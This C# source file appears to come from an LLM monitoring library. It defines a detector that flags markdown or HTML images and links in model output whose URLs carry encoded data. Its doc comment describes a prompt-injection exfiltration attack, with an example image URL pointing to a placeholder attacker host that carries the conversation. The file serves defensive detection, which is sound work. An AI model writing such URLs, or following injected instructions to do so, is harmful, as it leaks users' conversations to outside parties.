using LlmObserve.Detection.Engine;

namespace LlmObserve.Detection.Detectors;

/// <summary>Kinds of <see cref="ExfiltrationDetector"/> signals.</summary>
public static class ExfiltrationKinds
{
    /// <summary>A markdown or HTML image whose URL carries data: rendering it sends the data without a click.</summary>
    public const string ImageWithData = "image_with_data";

    /// <summary>A markdown link whose URL carries data: one click sends it.</summary>
    public const string LinkWithData = "link_with_data";

    /// <summary>A markdown or HTML image with query parameters, data or not: weaker, but the usual start of the attack.</summary>
    public const string ImageWithQuery = "image_with_query";
}

/// <summary>
/// Exfiltration through URLs in an answer: an injected instruction makes the model write
/// <c>![](https://attacker/?q=&lt;conversation&gt;)</c>, and the client that renders the markdown sends the data.
/// A URL "carries data" when a query value or path segment is long and dense (base64, hex, percent-encoded text)
/// rather than a short id. Reads the response and the tool results (which the model may be asked to echo).
/// </summary>
public sealed class ExfiltrationDetector : TextDetector
{
    /// <summary>Length from which a URL component counts as a data payload rather than an id or a page name.</summary>
    public const int DataLength = 24;

    public override string Name => DetectorNames.Exfiltration;

    protected override IReadOnlyList<string> Fields { get; } = [TextFields.Response, TextFields.ToolCalls];

    public override void DetectText(string text, string field, ICollection<Signal> signals)
    {
        ArgumentNullException.ThrowIfNull(text);
        ArgumentNullException.ThrowIfNull(signals);
        ScanMarkdown(text, field, signals);
        ScanHtmlImages(text, field, signals);
    }

    private void ScanMarkdown(string text, string field, ICollection<Signal> signals)
    {
        for (var at = text.IndexOf("](", StringComparison.Ordinal); at >= 0; at = text.IndexOf("](", at + 2, StringComparison.Ordinal))
        {
            var open = text.LastIndexOf('[', at);
            if (open < 0 || at - open > 2000)
            {
                continue;
            }

            var image = open > 0 && text[open - 1] == '!';
            var urlStart = at + 2;
            var urlEnd = UrlEnd(text, urlStart, ')');
            var start = image ? open - 1 : open;
            Report(text, field, signals, start, Math.Min(text.Length, urlEnd + 1), text.AsSpan(urlStart, urlEnd - urlStart), image);
        }
    }

    private void ScanHtmlImages(string text, string field, ICollection<Signal> signals)
    {
        for (var at = text.IndexOf("<img", StringComparison.OrdinalIgnoreCase); at >= 0; at = text.IndexOf("<img", at + 4, StringComparison.OrdinalIgnoreCase))
        {
            var close = text.IndexOf('>', at);
            var tagEnd = close < 0 ? Math.Min(text.Length, at + 4000) : close + 1;
            var src = text.IndexOf("src=", at, tagEnd - at, StringComparison.OrdinalIgnoreCase);
            if (src < 0)
            {
                continue;
            }

            var urlStart = src + 4;
            var quote = urlStart < text.Length && text[urlStart] is '"' or '\'' ? text[urlStart++] : ' ';
            var urlEnd = UrlEnd(text, urlStart, quote);
            Report(text, field, signals, at, tagEnd, text.AsSpan(urlStart, urlEnd - urlStart), image: true);
        }
    }

    private void Report(string text, string field, ICollection<Signal> signals, int start, int end, ReadOnlySpan<char> url, bool image)
    {
        if (!url.StartsWith("http://", StringComparison.OrdinalIgnoreCase) && !url.StartsWith("https://", StringComparison.OrdinalIgnoreCase))
        {
            return;
        }

        var query = url.IndexOf('?');
        var carriesData = CarriesData(url[(url.IndexOf("//", StringComparison.Ordinal) + 2)..]);
        var (kind, confidence) = (image, carriesData) switch
        {
            (true, true) => (ExfiltrationKinds.ImageWithData, 0.92),
            (false, true) => (ExfiltrationKinds.LinkWithData, 0.7),
            (true, false) when query >= 0 => (ExfiltrationKinds.ImageWithQuery, 0.5),
            _ => (null, 0.0),
        };
        if (kind is not null)
        {
            var evidence = text.AsSpan(start, end - start);
            signals.Add(new Signal(Name, kind, confidence, field, start, end - start,
                evidence.Length <= 200 ? evidence.ToString() : string.Concat(evidence[..200], "…")));
        }
    }

    /// <summary>A query value or path segment of <see cref="DataLength"/> or more dense characters, or percent-encoded words.</summary>
    internal static bool CarriesData(ReadOnlySpan<char> hostAndRest)
    {
        var slash = hostAndRest.IndexOfAny('/', '?');
        if (slash < 0)
        {
            return false;
        }

        var rest = hostAndRest[slash..];
        if (rest.Count('%') + rest.Count('+') >= 3)
        {
            return true;
        }

        foreach (var range in rest.SplitAny("/?&=#"))
        {
            var segment = rest[range];
            if (segment.Length >= DataLength && !IsSlug(segment))
            {
                return true;
            }
        }

        return false;
    }

    // A long segment of lower-case words joined by dashes or underscores is a page name, not data.
    private static bool IsSlug(ReadOnlySpan<char> segment)
    {
        var separators = 0;
        foreach (var c in segment)
        {
            if (c is '-' or '_' or '.')
            {
                separators++;
            }
            else if (!char.IsAsciiLetterLower(c) && !char.IsAsciiDigit(c))
            {
                return false;
            }
        }

        return separators >= 2 && segment.Length / (separators + 1) <= 12;
    }

    private static int UrlEnd(string text, int start, char terminator)
    {
        var limit = Math.Min(text.Length, start + 8192);
        for (var i = start; i < limit; i++)
        {
            var c = text[i];
            if (c == terminator || char.IsWhiteSpace(c) || (terminator == ')' && c == ')'))
            {
                return i;
            }
        }

        return limit;
    }
}
